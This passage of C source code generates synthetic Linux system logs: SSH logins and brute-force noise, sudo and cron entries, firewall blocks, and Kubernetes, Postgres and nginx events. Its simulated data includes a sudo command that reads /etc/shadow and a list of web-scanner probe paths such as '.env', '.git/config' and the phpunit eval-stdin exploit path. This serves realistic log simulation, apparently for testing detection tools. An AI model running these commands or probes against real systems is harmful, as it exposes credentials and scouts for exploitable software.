            } else if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
                msg(r, "Connection closed by authenticating user %s %s port %u [preauth]", u, ip, port);
            }
        }
        return;
    }
    if (k < 0.9) { /* scanners and broken clients */
        static const char *const kex[] = {
            "diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1",
            "diffie-hellman-group1-sha1", "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group1-sha1"};
        double s = rng_unit(c->rng);
        if (s < 0.35) {
            if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
                msg(r, "Did not receive identification string from %s port %u", ip, port);
        } else if (s < 0.6) {
            if ((r = line(c, "sshd", pid, F_AUTH, S_ERR)))
                msg(r, "error: kex_exchange_identification: Connection closed by remote host");
            if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
                msg(r, "Connection closed by %s port %u", ip, port);
        } else if (s < 0.75) {
            if ((r = line(c, "sshd", pid, F_AUTH, S_ERR)))
                msg(r, "banner exchange: Connection from %s port %u: invalid format", ip, port);
        } else if (s < 0.9) {
            if ((r = line(c, "sshd", pid, F_AUTH, S_CRIT)))
                msg(r, "fatal: Unable to negotiate with %s port %u: no matching key exchange method found. Their offer: %s "
                       "[preauth]",
                    ip, port, PICK(c->rng, kex));
        } else if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
            msg(r, "Connection closed by %s port %u [preauth]", ip, port);
        }
        if (r)
            who(r, "ssh_connect", "", NULL, ip, port);
        return;
    }
    if (k < 0.97) { /* public key probing */
        const char *u = c->w->dict[zipf_pick(&c->w->dict_z, c->rng)];
        char fp[48];
        fingerprint(ip, fp);
        if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
            msg(r, "Failed publickey for invalid user %s from %s port %u ssh2: RSA SHA256:%s", u, ip, port, fp);
            who(r, "ssh_login", "failure", u, ip, port);
            field(r, "method", "publickey");
            field(r, "key_fingerprint", fp);
        }
        return;
    }
    double s = rng_unit(c->rng);
    if (s < 0.4) {
        if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
            msg(r, "User root from %s not allowed because not listed in AllowUsers", ip);
            who(r, "ssh_login", "failure", "root", ip, 0);
        }
    } else if (s < 0.7) {
        if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
            msg(r, "ROOT LOGIN REFUSED FROM %s port %u [preauth]", ip, port);
            who(r, "ssh_login", "failure", "root", ip, port);
        }
    } else if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
        msg(r, "Address %s maps to %s-static.isp.example, but this does not map back to the address - POSSIBLE BREAK-IN "
               "ATTEMPT!",
            ip, ip);
        who(r, "ssh_connect", "", NULL, ip, 0);
    }
}

static void sc_ssh_session(gen *c) {
    int person = admin_of(c);
    int automation = chance(c->rng, 0.3);
    const char *u = automation ? c->w->svc[c->h->svc] : c->w->persons[person];
    uint32_t uid = automation ? 990 - (uint32_t)c->h->svc % 100 : uid_of(person);
    const char *ip = internal_ip(c);
    uint32_t port = eph_port(c), pid = new_pid(c), session = c->h->next_session++;
    eg_logrec *r;
    if (!automation && chance(c->rng, 0.04) && (r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
        msg(r, "Failed password for %s from %s port %u ssh2", u, ip, port);
        who(r, "ssh_login", "failure", u, ip, port);
        field(r, "method", "password");
    }
    if ((r = line(c, "sshd", pid, F_AUTH, S_INFO))) {
        if (automation || chance(c->rng, 0.85)) {
            char fp[48];
            fingerprint(u, fp);
            msg(r, "Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s", u, ip, port, fp);
            field(r, "method", "publickey");
            field(r, "key_fingerprint", fp);
        } else {
            msg(r, "Accepted password for %s from %s port %u ssh2", u, ip, port);
            field(r, "method", "password");
        }
        who(r, "ssh_login", "success", u, ip, port);
    }
    if ((r = line(c, "sshd", pid, F_AUTHPRIV, S_INFO))) {
        msg(r, "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)", u, uid);
        who(r, "session_open", "success", u, NULL, 0);
    }
    if ((r = line(c, "systemd-logind", 612, F_AUTH, S_INFO)))
        msg(r, "New session %u of user %s.", session, u);
    if (chance(c->rng, 0.7)) {
        if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
            msg(r, "Received disconnect from %s port %u:11: disconnected by user", ip, port);
        if ((r = line(c, "sshd", pid, F_AUTH, S_INFO)))
            msg(r, "Disconnected from user %s %s port %u", u, ip, port);
        if ((r = line(c, "sshd", pid, F_AUTHPRIV, S_INFO))) {
            msg(r, "pam_unix(sshd:session): session closed for user %s", u);
            who(r, "session_close", "success", u, NULL, 0);
        }
        if ((r = line(c, "systemd-logind", 612, F_AUTH, S_INFO)))
            msg(r, "Removed session %u.", session);
    }
}

static const char *const sudo_commands[] = {
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl status kubelet",
    "/usr/bin/apt-get update",
    "/usr/bin/apt-get -y upgrade",
    "/usr/bin/journalctl -u kubelet --since today",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/bin/less /var/log/auth.log",
    "/usr/sbin/iptables -L -n -v",
    "/usr/sbin/nft list ruleset",
    "/usr/bin/docker ps -a",
    "/usr/bin/crictl ps",
    "/usr/bin/kubectl get pods -A",
    "/usr/bin/vim /etc/nginx/nginx.conf",
    "/usr/bin/vim /etc/ssh/sshd_config",
    "/bin/bash",
    "/usr/bin/su -",
    "/usr/sbin/reboot",
    "/usr/bin/du -sh /var/lib/docker",
    "/usr/bin/df -h",
    "/usr/bin/ss -tlnp",
    "/usr/bin/lsof -i :5432",
    "/usr/bin/cat /etc/shadow",
    "/usr/bin/systemctl restart postgresql",
    "/usr/bin/pg_dump -Fc app",
    "/usr/sbin/useradd -m -s /bin/bash contractor1",
    "/usr/bin/passwd contractor1",
    "/usr/bin/tcpdump -ni eth0 port 53",
    "/usr/bin/find /var/log -name *.gz -mtime +30 -delete",
    "/usr/bin/certbot renew",
    "/usr/sbin/qm list",
    "/usr/sbin/pct enter 105",
    "/usr/bin/zfs list -t snapshot",
};

static void sc_sudo(gen *c) {
    eg_logrec *r;
    uint32_t pid = new_pid(c), tty = rng_below(c->rng, 6);
    char ttys[16], pwd[64];
    snprintf(ttys, sizeof(ttys), "pts/%u", tty);
    if (chance(c->rng, 0.25)) { /* Ansible become */
        const char *u = c->w->svc[c->h->svc];
        char cmd[300];
        char tok[33];
        hex_of(rng_next(c->rng), rng_next(c->rng), tok, 32);
        snprintf(cmd, sizeof(cmd),
                 "/bin/sh -c echo BECOME-SUCCESS-%.32s ; /usr/bin/python3 /home/%s/.ansible/tmp/ansible-tmp-%" PRId64
                 ".%u-%u/AnsiballZ_%s.py",
                 tok, u, c->h->boot_ms / 1000, rng_below(c->rng, 99999), pid,
                 PICK(c->rng, ((const char *const[]){"apt", "systemd", "copy", "template", "command", "file"})));
        snprintf(pwd, sizeof(pwd), "/home/%s", u);
        if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_NOTICE))) {
            msg(r, "%s : PWD=%s ; USER=root ; COMMAND=%s", u, pwd, cmd);
            who(r, "sudo", "success", u, NULL, 0);
            field(r, "command", cmd);
            field(r, "target_user", "root");
            field(r, "pwd", pwd);
        }
        if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_INFO)))
            msg(r, "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=%u)", 990u);
        if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_INFO)))
            msg(r, "pam_unix(sudo:session): session closed for user root");
        return;
    }
    int person = chance(c->rng, 0.98) ? admin_of(c) : zipf_pick(&c->w->person_z, c->rng);
    const char *u = c->w->persons[person];
    const char *cmd = PICK(c->rng, sudo_commands);
    snprintf(pwd, sizeof(pwd), "/home/%s", u);
    double f = rng_unit(c->rng);
    if (f < 0.015) {
        if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_ALERT))) {
            msg(r, "%s : user NOT in sudoers ; TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s", u, ttys, pwd, cmd);
            who(r, "sudo", "failure", u, NULL, 0);
            field(r, "command", cmd);
            field(r, "target_user", "root");
            field(r, "tty", ttys);
        }
        return;
    }
    if (f < 0.05) {
        if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_NOTICE))) {
            msg(r, "pam_unix(sudo:auth): authentication failure; logname=%s uid=%u euid=0 tty=/dev/%s ruser=%s rhost=  "
                   "user=%s",
                u, uid_of(person), ttys, u, u);
            who(r, "pam_auth", "failure", u, NULL, 0);
        }
        if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_ALERT))) {
            int n = 1 + (int)rng_below(c->rng, 3);
            msg(r, "%s : %d incorrect password attempt%s ; TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s", u, n,
                n > 1 ? "s" : "", ttys, pwd, cmd);
            who(r, "sudo", "failure", u, NULL, 0);
            field(r, "command", cmd);
            field(r, "target_user", "root");
            field(r, "tty", ttys);
        }
        return;
    }
    if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_NOTICE))) {
        msg(r, "%s : TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s", u, ttys, pwd, cmd);
        who(r, "sudo", "success", u, NULL, 0);
        field(r, "command", cmd);
        field(r, "target_user", "root");
        field(r, "tty", ttys);
        field(r, "pwd", pwd);
    }
    if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_INFO)))
        msg(r, "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%u)", u, uid_of(person));
    if ((r = line(c, "sudo", pid, F_AUTHPRIV, S_INFO)))
        msg(r, "pam_unix(sudo:session): session closed for user root");
}

static void sc_su(gen *c) {
    int person = admin_of(c);
    const char *u = c->w->persons[person];
    uint32_t pid = new_pid(c), tty = rng_below(c->rng, 6);
    eg_logrec *r;
    if (chance(c->rng, 0.06)) {
        if ((r = line(c, "su", pid, F_AUTHPRIV, S_NOTICE))) {
            msg(r, "pam_unix(su-l:auth): authentication failure; logname=%s uid=%u euid=0 tty=/dev/pts/%u ruser=%s rhost=  "
                   "user=root",
                u, uid_of(person), tty, u);
            who(r, "pam_auth", "failure", u, NULL, 0);
        }
        if ((r = line(c, "su", pid, F_AUTHPRIV, S_NOTICE))) {
            msg(r, "FAILED SU (to root) %s on pts/%u", u, tty);
            who(r, "su", "failure", u, NULL, 0);
            field(r, "target_user", "root");
        }
        return;
    }
    if ((r = line(c, "su", pid, F_AUTHPRIV, S_NOTICE))) {
        msg(r, "(to root) %s on pts/%u", u, tty);
        who(r, "su", "success", u, NULL, 0);
        field(r, "target_user", "root");
    }
    if ((r = line(c, "su", pid, F_AUTHPRIV, S_INFO)))
        msg(r, "pam_unix(su-l:session): session opened for user root(uid=0) by %s(uid=%u)", u, uid_of(person));
}

static void sc_cron(gen *c) {
    static const char *const jobs[] = {
        "   cd / && run-parts --report /etc/cron.hourly",
        "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
        "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
        "/usr/local/bin/backup.sh >/dev/null 2>&1",
        "/usr/bin/certbot -q renew",
        "/opt/scripts/rotate-app-logs.sh",
        "/usr/local/bin/node_exporter_textfile.sh > /var/lib/node_exporter/textfile/custom.prom",
        "/usr/bin/flock -n /tmp/sync.lock /opt/sync/run.sh",
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "/usr/bin/find /tmp -type f -atime +7 -delete",
    };
    uint32_t pid = new_pid(c);
    const char *u = chance(c->rng, 0.8) ? "root" : c->w->svc[c->h->svc];
    eg_logrec *r;
    if ((r = line(c, "CRON", pid, F_AUTHPRIV, S_INFO))) {
        msg(r, "pam_unix(cron:session): session opened for user %s(uid=%u) by (uid=0)", u, u[0] == 'r' ? 0u : 990u);
        who(r, "session_open", "success", u, NULL, 0);
    }
    if ((r = line(c, "CRON", pid, F_CRON, S_INFO)))
        msg(r, "(%s) CMD (%s)", u, PICK(c->rng, jobs));
    if ((r = line(c, "CRON", pid, F_AUTHPRIV, S_INFO)))
        msg(r, "pam_unix(cron:session): session closed for user %s", u);
}

static void sc_systemd(gen *c) {
    static const struct {
        const char *unit, *desc;
    } units[] = {
        {"apt-daily.service", "Daily apt download activities"},
        {"apt-daily-upgrade.service", "Daily apt upgrade and clean activities"},
        {"logrotate.service", "Rotate log files"},
        {"man-db.service", "Daily man-db regeneration"},
        {"sysstat-collect.service", "system activity accounting tool"},
        {"phpsessionclean.service", "Clean php session files"},
        {"fstrim.service", "Discard unused blocks on filesystems from /etc/fstab"},
        {"systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"},
        {"certbot.service", "Certbot"},
        {"e2scrub_all.service", "Online ext4 Metadata Check for All Filesystems"},
        {"dpkg-db-backup.service", "Daily dpkg database backup service"},
        {"anacron.service", "Run anacron jobs"},
        {"prometheus-node-exporter-apt.service", "Collect apt metrics for prometheus-node-exporter"},
        {"restic-backup.service", "Restic backup"},
        {"fwupd-refresh.service", "Refresh fwupd metadata and update motd"},
        {"motd-news.service", "Message of the Day"},
    };
    uint32_t i = rng_below(c->rng, (uint32_t)ARRAY_LEN(units));
    eg_logrec *r;
    if ((r = line(c, "systemd", 1, F_DAEMON, S_INFO)))
        msg(r, "Starting %s - %s...", units[i].unit, units[i].desc);
    if (chance(c->rng, 0.03)) {
        if ((r = line(c, "systemd", 1, F_DAEMON, S_NOTICE)))
            msg(r, "%s: Main process exited, code=exited, status=1/FAILURE", units[i].unit);
        if ((r = line(c, "systemd", 1, F_DAEMON, S_WARNING)))
            msg(r, "%s: Failed with result 'exit-code'.", units[i].unit);
        if ((r = line(c, "systemd", 1, F_DAEMON, S_ERR)))
            msg(r, "Failed to start %s - %s.", units[i].unit, units[i].desc);
        return;
    }
    if ((r = line(c, "systemd", 1, F_DAEMON, S_INFO)))
        msg(r, "%s: Deactivated successfully.", units[i].unit);
    if ((r = line(c, "systemd", 1, F_DAEMON, S_INFO)))
        msg(r, "Finished %s - %s.", units[i].unit, units[i].desc);
    if (chance(c->rng, 0.4) && (r = line(c, "systemd", 1, F_DAEMON, S_INFO)))
        msg(r, "%s: Consumed %.3fs CPU time.", units[i].unit, 0.01 + rng_unit(c->rng) * 40);
}

static void sc_kernel(gen *c) {
    eg_logrec *r = line(c, "kernel", 0, F_KERN, S_INFO);
    if (!r)
        return;
    double k = rng_unit(c->rng);
    int exposed = c->h->attack_share > 0.3;
    if (k < (exposed ? 0.85 : 0.3)) {
        const char *ip = attacker(c);
        static const uint32_t ports[] = {22, 23, 80, 443, 445, 3389, 5900, 8080, 8443, 6379, 9200, 2375, 5432, 3306};
        uint32_t dpt = PICK(c->rng, ports);
        char dp[8];
        snprintf(dp, sizeof(dp), "%u", dpt);
        r->severity = S_WARNING;
        msg(r, "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:3a:1f:%02x:00:1c:73:00:00:99:08:00 SRC=%s DST=10.0.%u.%u LEN=44 "
               "TOS=0x00 PREC=0x00 TTL=%u ID=%u PROTO=TCP SPT=%u DPT=%u WINDOW=1024 RES=0x00 SYN URGP=0",
            rng_below(c->rng, 256), ip, rng_below(c->rng, 8), 2 + rng_below(c->rng, 250), 40 + rng_below(c->rng, 200),
            rng_below(c->rng, 65536), eph_port(c), dpt);
        who(r, "firewall_drop", "", NULL, ip, 0);
        field(r, "dst_port", dp);
        field(r, "proto", "TCP");
        return;
    }
    k = rng_unit(c->rng);
    if (k < 0.25) {
        r->severity = S_WARNING;
        msg(r, "audit: type=1400 audit(%u.%03u:%u): apparmor=\"DENIED\" operation=\"open\" class=\"file\" "
               "profile=\"/usr/sbin/cups-browsed\" name=\"/proc/%u/stat\" pid=%u comm=\"cups-browsed\" "
               "requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0",
            1700000000u + rng_below(c->rng, 9000000), rng_below(c->rng, 1000), rng_below(c->rng, 90000),
            rng_below(c->rng, 99999), rng_below(c->rng, 99999));
    } else if (k < 0.45) {
        msg(r, "perf: interrupt took too long (%u > %u), lowering kernel.perf_event_max_sample_rate to %u",
            2500 + rng_below(c->rng, 3000), 2500u, 50000 + rng_below(c->rng, 30000));
    } else if (k < 0.6) {
        r->severity = S_WARNING;
        msg(r, "TCP: request_sock_TCP: Possible SYN flooding on port %u. Sending cookies.  Check SNMP counters.",
            PICK(c->rng, ((const uint32_t[]){443, 80, 22, 6443})));
    } else if (k < 0.72) {
        msg(r, "EXT4-fs (%s): mounted filesystem with ordered data mode. Quota mode: none.",
            PICK(c->rng, ((const char *const[]){"dm-0", "sda1", "vda1", "nvme0n1p2"})));
    } else if (k < 0.8) {
        r->severity = S_WARNING;
        msg(r, "nf_conntrack: nf_conntrack: table full, dropping packet");
    } else if (k < 0.88) {
        r->severity = S_ERR;
        msg(r, "blk_update_request: I/O error, dev %s, sector %u op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 0",
            PICK(c->rng, ((const char *const[]){"sdb", "sdc", "nvme1n1"})), rng_below(c->rng, 2000000000));
    } else if (k < 0.95) {
        uint32_t p = new_pid(c);
        msg(r, "%s[%u]: segfault at %x ip 00007f%08x sp 00007ffd%08x error 4 in libc.so.6[7f%07x+195000] likely on CPU "
               "%u (core %u, socket 0)",
            PICK(c->rng, ((const char *const[]){"php-fpm8.2", "python3", "node", "java", "ruby"})), p,
            rng_below(c->rng, 4096), rng_below(c->rng, 0x7fffffff), rng_below(c->rng, 0x7fffffff),
            rng_below(c->rng, 0x7ffffff), rng_below(c->rng, 8), rng_below(c->rng, 4));
    } else {
        r->severity = S_ERR;
        uint32_t p = new_pid(c);
        msg(r, "Out of memory: Killed process %u (%s) total-vm:%ukB, anon-rss:%ukB, file-rss:0kB, shmem-rss:0kB, UID:%u "
               "pgtables:%ukB oom_score_adj:0",
            p, PICK(c->rng, ((const char *const[]){"java", "postgres", "elasticsearch", "node", "python3"})),
            4000000 + rng_below(c->rng, 9000000), 2000000 + rng_below(c->rng, 6000000), 1000 + rng_below(c->rng, 200),
            5000 + rng_below(c->rng, 20000));
    }
}

static void sc_misc(gen *c) {
    eg_logrec *r;
    double k = rng_unit(c->rng);
    if (k < 0.35) {
        if ((r = line(c, "chronyd", c->h->pid_chronyd, F_DAEMON, S_INFO))) {
            if (chance(c->rng, 0.7))
                msg(r, "Selected source 10.0.0.%u (ntp%u.internal)", 53 + rng_below(c->rng, 3), 1 + rng_below(c->rng, 3));
            else
                msg(r, "System clock wrong by %.6f seconds", (rng_unit(c->rng) - 0.5) * 3);
        }
    } else if (k < 0.5) {
        if ((r = line(c, "rsyslogd", c->h->pid_rsyslogd, F_SYSLOG, S_INFO)))
            msg(r, "[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%u\" x-info=\"https://www.rsyslog.com\"] "
                   "rsyslogd was HUPed",
                c->h->pid_rsyslogd);
    } else if (k < 0.62) {
        if ((r = line(c, "systemd-resolved", 520, F_DAEMON, S_INFO)))
            msg(r, "Clock change detected. Flushing caches.");
    } else if (k < 0.8) {
        /* debsecan's daily report: vulnerable packages, the same few CVEs over and over */
        uint32_t pid = new_pid(c);
        int n = 1 + (int)rng_below(c->rng, 3);
        for (int i = 0; i < n; i++) {
            if ((r = line(c, "debsecan", pid, F_USER, S_NOTICE))) {
                const char *cve = cve_pool[zipf_pick(&c->w->cve_z, c->rng)];
                msg(r, "%s %s (%s)", cve, PICK(c->rng, cve_packages),
                    PICK(c->rng, ((const char *const[]){"remotely exploitable, high urgency", "low urgency",
                                                        "medium urgency", "fixed, remotely exploitable, medium urgency",
                                                        "obsolete"})));
                field(r, "cve", cve);
            }
        }
    } else if (k < 0.9) {
        if ((r = line(c, "aide", new_pid(c), F_USER, S_NOTICE))) {
            char h1[65];
            hex_of(rng_next(c->rng), rng_next(c->rng), h1, 64);
            const char *f = PICK(c->rng, ((const char *const[]){"/etc/passwd", "/etc/group", "/etc/hosts",
                                                                "/etc/resolv.conf", "/etc/ssh/sshd_config",
                                                                "/usr/bin/sudo", "/etc/crontab", "/etc/sudoers"}));
            msg(r, "changed: %s sha256=%s", f, h1);
            field(r, "file", f);
            field(r, "sha256", h1);
        }
    } else if (k < 0.96) {
        if ((r = line(c, "unattended-upgrade", new_pid(c), F_DAEMON, S_INFO)))
            msg(r, "Packages that will be upgraded: %s %s", PICK(c->rng, cve_packages), PICK(c->rng, cve_packages));
    } else {
        uint32_t pid = new_pid(c);
        const char *u = c->w->persons[zipf_pick(&c->w->person_z, c->rng)];
        if ((r = line(c, "useradd", pid, F_AUTHPRIV, S_INFO))) {
            msg(r, "new user: name=%s, UID=%u, GID=%u, home=/home/%s, shell=/bin/bash, from=/dev/pts/0", u,
                1001 + rng_below(c->rng, 900), 1001 + rng_below(c->rng, 900), u);
            who(r, "user_add", "success", u, NULL, 0);
        }
    }
}

static const char *const k8s_events[] = {"ContainerStarted", "ContainerDied"};

static void pod_name(gen *c, char *out, size_t cap, const char **ns_ret) {
    const eg_world *w = c->w;
    double u = rng_unit(c->rng) * w->ns_total, acc = 0;
    int i = 0;
    for (; i < w->n_ns - 1; i++) {
        acc += w->ns[i].weight;
        if (u < acc)
            break;
    }
    const k8s_ns *ns = &w->ns[i];
    const char *d = ns->deploys[rng_below(c->rng, (uint32_t)ns->n_deploys)];
    uint64_t rs = fnv1a(d) ^ (uint64_t)i;
    char h[11];
    hex_of(rs, rs >> 7, h, 10);
    static const char alnum[] = "bcdfghjklmnpqrstvwxz2456789";
    char sfx[6];
    uint64_t x = rs + rng_below(c->rng, 8); /* a handful of pod generations per deployment */
    for (int k = 0; k < 5; k++)
        sfx[k] = alnum[splitmix64(&x) % (sizeof(alnum) - 1)];
    sfx[5] = '\0';
    snprintf(out, cap, "%s-%s-%s", d, h, sfx);
    *ns_ret = ns->name;
}

static void sc_role(gen *c, int64_t approx_ms) {
    eg_host *h = c->h;
    eg_logrec *r;
    time_t secs = (time_t)(approx_ms / 1000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    switch (h->role) {
    case R_K8S: {
        char pod[96], cid[65];
        const char *ns = NULL;
        pod_name(c, pod, sizeof(pod), &ns);
        hex_of(rng_next(c->rng), rng_next(c->rng), cid, 64);
        double k = rng_unit(c->rng);
        if (k < 0.45) {
            if ((r = line(c, "kubelet", h->pid_kubelet, F_DAEMON, S_INFO)))
                msg(r, "I%02d%02d %02d:%02d:%02d.%06u %8u kubelet.go:2432] \"SyncLoop (PLEG): event for pod\" pod=\"%s/%s\" "
                       "event={\"ID\":\"%.8s-%.4s-%.4s-%.4s-%.12s\",\"Type\":\"%s\",\"Data\":\"%s\"}",
                    tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, rng_below(c->rng, 1000000),
                    h->pid_kubelet, ns, pod, cid, cid + 8, cid + 12, cid + 16, cid + 20, PICK(c->rng, k8s_events), cid);
        } else if (k < 0.6) {
            if ((r = line(c, "kubelet", h->pid_kubelet, F_DAEMON, S_ERR)))
                msg(r, "E%02d%02d %02d:%02d:%02d.%06u %8u pod_workers.go:1298] \"Error syncing pod, skipping\" "
                       "err=\"failed to \\\"StartContainer\\\" for \\\"app\\\" with CrashLoopBackOff: \\\"back-off 5m0s "
                       "restarting failed container=app pod=%s_%s\\\"\" pod=\"%s/%s\"",
                    tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, rng_below(c->rng, 1000000),
                    h->pid_kubelet, pod, ns, ns, pod);
        } else if (k < 0.9) {
            if ((r = line(c, "containerd", h->pid_containerd, F_DAEMON, S_INFO)))
                msg(r, "time=\"%04d-%02d-%02dT%02d:%02d:%02d.%09uZ\" level=info msg=\"%s for \\\"%s\\\"%s\"",
                    tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                    rng_below(c->rng, 1000000000),
                    PICK(c->rng, ((const char *const[]){"StartContainer", "RemoveContainer", "StopContainer",
                                                        "StopPodSandbox"})),
                    cid, chance(c->rng, 0.5) ? " returns successfully" : "");
        } else if ((r = line(c, "containerd", h->pid_containerd, F_DAEMON, S_ERR))) {
            msg(r, "time=\"%04d-%02d-%02dT%02d:%02d:%02d.%09uZ\" level=error msg=\"ContainerStatus for \\\"%s\\\" failed\" "
                   "error=\"rpc error: code = NotFound desc = an error occurred when try to find container \\\"%s\\\": not "
                   "found\"",
                tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                rng_below(c->rng, 1000000000), cid, cid);
        }
        break;
    }
    case R_PROXMOX: {
        double k = rng_unit(c->rng);
        uint32_t vm = 100 + rng_below(c->rng, 60);
        if (k < 0.4) {
            char upid[96];
            snprintf(upid, sizeof(upid), "UPID:%s:%08X:%08X:%08X:%s:%u:root@pam:", h->name, new_pid(c),
                     rng_below(c->rng, 0x7fffffff), (uint32_t)secs,
                     PICK(c->rng, ((const char *const[]){"qmstart", "qmshutdown", "vzdump", "qmsnapshot", "vncproxy"})),
                     vm);
            if ((r = line(c, "pvedaemon", h->pid_pvedaemon, F_DAEMON, S_INFO)))
                msg(r, "<root@pam> starting task %s", upid);
            if ((r = line(c, "pvedaemon", h->pid_pvedaemon, F_DAEMON, S_INFO)))
                msg(r, "<root@pam> end task %s OK", upid);
        } else if (k < 0.7) {
            if ((r = line(c, "pvestatd", h->pid_pvedaemon + 3, F_DAEMON, S_INFO)))
                msg(r, "status update time (%.3f seconds)", 0.2 + rng_unit(c->rng) * 8);
        } else if (k < 0.9) {
            if ((r = line(c, "pveproxy", h->pid_pvedaemon + 9, F_DAEMON, S_INFO)))
                msg(r, "worker %u finished", new_pid(c));
        } else if ((r = line(c, "pvedaemon", h->pid_pvedaemon, F_DAEMON, S_ERR))) {
            const char *ip = chance(c->rng, 0.5) ? internal_ip(c) : attacker(c);
            msg(r, "authentication failure; rhost=::ffff:%s user=root@pam msg=Authentication failure", ip);
            who(r, "pam_auth", "failure", "root@pam", ip, 0);
        }
        break;
    }
    case R_DB: {
        double k = rng_unit(c->rng);
        uint32_t line_no = rng_below(c->rng, 90000);
        if (k < 0.35) {
            if ((r = line(c, "postgres", h->pid_postgres, F_DAEMON, S_INFO)))
                msg(r, "[%u-1] LOG:  checkpoint complete: wrote %u buffers (%.1f%%); 0 WAL file(s) added, 0 removed, %u "
                       "recycled; write=%.3f s, sync=%.3f s, total=%.3f s",
                    line_no, rng_below(c->rng, 20000), rng_unit(c->rng) * 10, rng_below(c->rng, 8), rng_unit(c->rng) * 270,
                    rng_unit(c->rng), rng_unit(c->rng) * 271);
        } else if (k < 0.6) {
            if ((r = line(c, "postgres", new_pid(c), F_DAEMON, S_INFO)))
                msg(r, "[%u-1] LOG:  automatic vacuum of table \"app.public.%s\": index scans: 1", line_no,
                    PICK(c->rng, ((const char *const[]){"orders", "order_items", "sessions", "events", "users", "audit_log"})));
        } else if (k < 0.78) {
            if ((r = line(c, "postgres", new_pid(c), F_DAEMON, S_ERR)))
                msg(r, "[%u-1] ERROR:  duplicate key value violates unique constraint \"%s\"", line_no,
                    PICK(c->rng, ((const char *const[]){"orders_pkey", "users_email_key", "sessions_pkey"})));
        } else if (k < 0.9) {
            if ((r = line(c, "postgres", new_pid(c), F_DAEMON, S_INFO)))
                msg(r, "[%u-1] LOG:  could not receive data from client: Connection reset by peer", line_no);
        } else {
            const char *u = PICK(c->rng, ((const char *const[]){"app", "reporting", "postgres", "grafana", "etl"}));
            const char *ip = internal_ip(c);
            uint32_t p = new_pid(c);
            if ((r = line(c, "postgres", p, F_DAEMON, S_CRIT))) {
                msg(r, "[%u-1] FATAL:  password authentication failed for user \"%s\"", line_no, u);
                who(r, "db_login", "failure", u, ip, 0);
            }
            if ((r = line(c, "postgres", p, F_DAEMON, S_INFO)))
                msg(r, "[%u-2] DETAIL:  Connection matched file \"/etc/postgresql/16/main/pg_hba.conf\" line 102: \"host "
                       "all all 10.0.0.0/8 scram-sha-256\"",
                    line_no);
        }
        break;
    }
    case R_WEB:
    case R_EDGE: {
        static const char *const probes[] = {"wp-login.php", ".env", "phpmyadmin/index.php", ".git/config",
                                             "cgi-bin/luci/;stok=/locale", "actuator/health", "boaform/admin/formLogin",
                                             "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "HNAP1/", "owa/auth/logon.aspx",
                                             "geoserver/web/", "solr/admin/info/system", "autodiscover/autodiscover.xml"};
        uint32_t reqn = rng_below(c->rng, 9000000);
        if (chance(c->rng, 0.6)) {
            const char *ip = attacker(c);
            const char *p = PICK(c->rng, probes);
            if ((r = line(c, "nginx", h->pid_nginx, F_DAEMON, S_ERR))) {
                msg(r, "%04d/%02d/%02d %02d:%02d:%02d [error] %u#%u: *%u open() \"/var/www/html/%s\" failed (2: No such "
                       "file or directory), client: %s, server: _, request: \"GET /%s HTTP/1.1\", host: \"%s\"",
                    tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, h->pid_nginx,
                    h->pid_nginx, reqn, p, ip, p, h->name);
                who(r, "http_request", "failure", NULL, ip, 0);
            }
        } else if ((r = line(c, "nginx", h->pid_nginx, F_DAEMON, S_ERR))) {
            const char *ip = internal_ip(c);
            msg(r, "%04d/%02d/%02d %02d:%02d:%02d [error] %u#%u: *%u upstream timed out (110: Connection timed out) while "
                   "reading response header from upstream, client: %s, server: shop.example.com, request: \"GET "
                   "/api/v1/orders HTTP/1.1\", upstream: \"http://10.20.%u.%u:8080/api/v1/orders\"",
